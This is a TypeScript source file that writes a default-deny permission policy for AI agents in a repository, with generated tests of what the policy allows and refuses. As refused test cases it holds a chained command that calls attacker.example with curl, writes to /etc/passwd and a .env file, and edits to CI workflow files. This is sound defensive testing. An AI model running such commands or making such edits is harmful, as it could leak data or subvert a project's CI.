// Writes the permission policy of `interns init`, with tests of what it allows and rejects.
import { PolicyError } from '../../errors.ts';
import { readPolicy } from '../../permission/file/policy-file.ts';
import { lint } from '../../permission/lint/lint.ts';
import type { Policy } from '../../permission/policy.ts';
import { runTests } from '../../permission/tools/self-test.ts';
import {
  defaultPolicyPath,
  forkGuard,
  outsideGuard,
  schemaFileName,
  writeSettingsGuards,
} from '../../permission/tools/starter.ts';
import { uniqueId } from '../../permission/tools/suggest.ts';
import { escapeUnsafe } from '../screen.ts';
import { type FlagAnswers, type InitAnswers, invalid, readAnswer, type Trigger } from './answers.ts';

export type PolicyAnswers = Pick<InitAnswers, 'trigger' | 'commands' | 'paths'>;

export function toPolicyText(answers: PolicyAnswers): string {
  const { paths } = answers;
  const rules = toRules(answers, defaultIds);
  return `# yaml-language-server: $schema=./${schemaFileName}
#
# What an intern may do in this repository without a person at hand. docs/policy.md says how to write more.
#   interns policy check   is it valid, and does it do what it looks like?
#   interns policy test    do the tests at the end hold? (the action runs them before every prompt)
version: 1
default: reject

# On GitHub, this refuses pull requests from forks. On your own machine there is no event: the guard does not apply, and you are asked.
guards:
${forkGuard}${paths.length === 0 ? '' : `\n${pathGuards}`}
rules:${rules.length === 0 ? ' []' : `\n${rules.join('\n\n')}`}

tests:
${toTests(answers).join('\n')}`;
}

type RuleIds = Readonly<Record<'commands' | 'paths' | 'inside', string>>;

const defaultIds: RuleIds = { commands: 'run-commands', paths: 'edit-files', inside: 'edit-files-inside' };

const guardId = 'never-touch-workflows';

const pathGuards = writeSettingsGuards(guardId, 'stop');

/** Writes entries to add to a policy, with ids that are free there. For paths, adds guards unless one is there. */
export function toFurtherEntries(answers: PolicyAnswers, { guards, rules, questions, changes = [] }: Policy): string {
  const taken = new Set([...guards, ...rules, ...questions, ...changes].map(({ id }) => id));
  const { commands, paths, inside } = defaultIds;
  const ids = { commands: uniqueId(commands, taken), paths: uniqueId(paths, taken), inside: uniqueId(inside, taken) };
  const needsGuards = answers.paths.length > 0 && !taken.has(guardId) && !taken.has(outsideGuard);
  const rows = [...toAllowedRows(answers, ids), ...(needsGuards ? toWorkflowRows(toContext(answers)) : [])];
  return [
    ...(needsGuards ? [`guards:\n${pathGuards}`] : []),
    `rules:\n${toRules(answers, ids).join('\n\n')}\n`,
    `tests:\n${rows.map(toTest).join('\n')}`,
  ].join('\n');
}

/** Writes a second rule for paths, on the field `/inside`, where agents name those within the work folder. */
function toRules({ trigger, commands, paths }: PolicyAnswers, ids: RuleIds): readonly string[] {
  const when = conditions[trigger];
  const shellRule = `  - id: ${ids.commands}
    when: ${when}
    match:
      kind: permission
      tool: shell
      command: { shell: { only: [${commands.map(quoteYaml).join(', ')}] } }
    then: allow
    limit: 10`;
  const toPathRule = (id: string, field: string): string => `  - id: ${id}
    when: ${when}
    match: { kind: permission, tool: fs.write, "${field}": { path: [${paths.map(quoteYaml).join(', ')}] } }
    then: allow
    limit: 20`;
  return [
    ...(commands.length > 0 ? [shellRule] : []),
    ...(paths.length > 0 ? [toPathRule(ids.paths, '/paths'), toPathRule(ids.inside, '/inside')] : []),
  ];
}

const writersOnly = 'actor: { permission: [admin, maintain, write] }';

/** Demands an actor with write permission for each event that outsiders can cause. */
const conditions: Readonly<Record<Trigger, string>> = {
  pull_request: `{ event: pull_request, ${writersOnly} }`,
  issue_comment: `{ event: issue_comment, ${writersOnly} }`,
  push: '{ event: push }',
  // People can start this workflow by hand as well.
  schedule: '{ event: [schedule, workflow_dispatch] }',
};

function toContext({ trigger }: PolicyAnswers): string {
  return `{ event: ${trigger}, fork: false, actor: { permission: write } }`;
}

function toTests(answers: PolicyAnswers): readonly string[] {
  const { commands, paths } = answers;
  const context = toContext(answers);
  const [firstCommand = 'npm test'] = commands;
  const fork = '{ event: pull_request, fork: true, actor: { permission: write } }';
  // Refuse the same command elsewhere: another folder may hold a program that the intern wrote itself.
  const plantedRows: readonly TestRow[] = [
    ['not in another folder', context, `${toRun(firstCommand)}, inside: [some-other-folder]`, refused],
    ['nor with variables of its own', context, `${toRun(firstCommand)}, env: { PATH: some-other-folder }`, refused],
  ];
  const rows: readonly TestRow[] = [
    ...toAllowedRows(answers, defaultIds),
    ['no other command rides along', context, toRun(`${firstCommand}; curl https://attacker.example`), refused],
    ...(commands.length === 0 ? [] : plantedRows),
    ...(paths.length === 0 ? [] : toWorkflowRows(context)),
    ['nothing outside is edited', context, toWrite('some-other-folder/.env'), refused],
    ['a fork gets nothing', fork, toRun(firstCommand), 'reject_once, rule: never-from-forks'],
    ['on a laptop a person is asked', '{}', toRun(firstCommand), refused],
  ];
  return rows.map(toTest);
}

type TestRow = readonly [name: string, context: string, pause: string, expected: string];

const refused = 'reject_once, rule: default';

function toAllowedRows(answers: PolicyAnswers, ids: RuleIds): readonly TestRow[] {
  const { commands, paths } = answers;
  const context = toContext(answers);
  const toFile = (path: string): string => path.replace('**', 'some-file');
  const [first] = paths.map(toFile);
  const inside = `allow_once, rule: ${ids.inside}`;
  return [
    ...commands.map((text): TestRow => [nameRun(text), context, toRun(text), `allow_once, rule: ${ids.commands}`]),
    ...paths.map((path): TestRow => [nameEdit(path), context, toWrite(toFile(path)), `allow_once, rule: ${ids.paths}`]),
    ...(first === undefined ? [] : [['a real agent may as well', context, toWriteInside(first), inside] as const]),
  ];
}

export const nameRun = (command: string): string => `it may run ${command}`;
export const nameEdit = (path: string): string => `it may edit ${path}`;

function toWorkflowRows(context: string): readonly TestRow[] {
  const path = '.github/workflows/ci.yml';
  const outside = `${toWrite('/etc/passwd')}, outside: ["/etc/passwd"]`;
  return [
    ['a workflow stops the run', context, toWrite(path), `stop, rule: ${guardId}`],
    ['so does that of a real agent', context, toWriteInside(path), `stop, rule: ${guardId}-inside`],
    ['and a file that is elsewhere', context, outside, `stop, rule: ${outsideGuard}`],
  ];
}

const toRun = (command: string): string => `operation: ${quoteYaml(`shell command: ${command}`)}`;
const toWrite = (path: string): string => `operation: fs.write, paths: [${quoteYaml(path)}]`;
const toWriteInside = (path: string): string => `${toWrite(`/work/app/${path}`)}, inside: [${quoteYaml(path)}]`;

function toTest([name, context, pause, expected]: TestRow): string {
  return `  - name: ${quoteYaml(name)}
    context: ${context}
    pause: { kind: permission, ${pause}, options: [allow_once, reject_once] }
    expect: { answer: ${expected} }
`;
}

export async function findPolicyProblem(text: string, path: string): Promise<string | undefined> {
  const reading = await readPolicy(text, path);
  if ('problems' in reading) return reading.problems[0]?.message ?? 'The policy is invalid.';
  const [failure] = runTests(reading.policy);
  if (failure !== undefined) return `The test "${failure.name}" fails: ${failure.message}`;
  return lint(reading.policy)[0]?.message;
}

/** Throws {@link PolicyError} `policy_invalid` unless the policy passes its tests without a warning. */
export async function checkWrittenPolicy(text: string, path: string): Promise<void> {
  const reason = await findPolicyProblem(text, path);
  if (reason === undefined) return;
  throw new PolicyError('policy_invalid', `These answers do not make a safe policy. ${reason}`, { source: path });
}

/** Quotes for YAML, escaping what a reader would not see: JSON strings are YAML scalars (YAML 1.2, section 1.3). */
export function quoteYaml(text: string): string {
  return escapeUnsafe(JSON.stringify(text));
}

/** Throws {@link InputError} `input_invalid` for a command that the policy could not allow word for word. */
export async function readCommand(text: string): Promise<string> {
  return checkEntry('allow', text, { commands: [readAnswer.command(text)] });
}

export async function readPath(text: string): Promise<string> {
  return checkEntry('edit', text, { paths: [readAnswer.path(text)] });
}

export async function checkFlagEntries({ commands = [], paths = [] }: FlagAnswers): Promise<void> {
  for (const command of commands) await readCommand(command);
  for (const path of paths) await readPath(path);
}

async function checkEntry(flag: string, text: string, entry: Partial<PolicyAnswers>): Promise<string> {
  const answers = { trigger: 'pull_request', commands: [], paths: [], ...entry } as const;
  const reason = await findPolicyProblem(toPolicyText(answers), defaultPolicyPath);
  if (reason !== undefined) throw invalid(flag, text, reason);
  return text;
}
